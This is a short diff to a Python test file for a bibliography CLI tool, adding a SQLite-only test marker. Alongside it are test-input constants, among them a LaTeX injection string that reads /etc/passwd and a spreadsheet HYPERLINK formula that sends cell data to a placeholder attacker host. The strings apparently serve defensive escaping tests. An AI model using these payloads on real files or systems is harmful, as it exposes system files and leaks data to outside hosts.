@@ -28,6 +28,9 @@ from typer.testing import CliRunner
 from adbib.cli import app
 from helpers.dbstate import snapshot
 
+# SQLite only: hostile database files (not SQLite, damaged, read-only files).
+pytestmark = pytest.mark.sqlite_only
+
 TEX = r"{Braces} and \back 100% @at #hash & $dollar _under ~tilde ^caret} unbalanced{"
 INJECT = r"\input{/etc/passwd} \end{document} @article{evil, title={x}} %comment"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
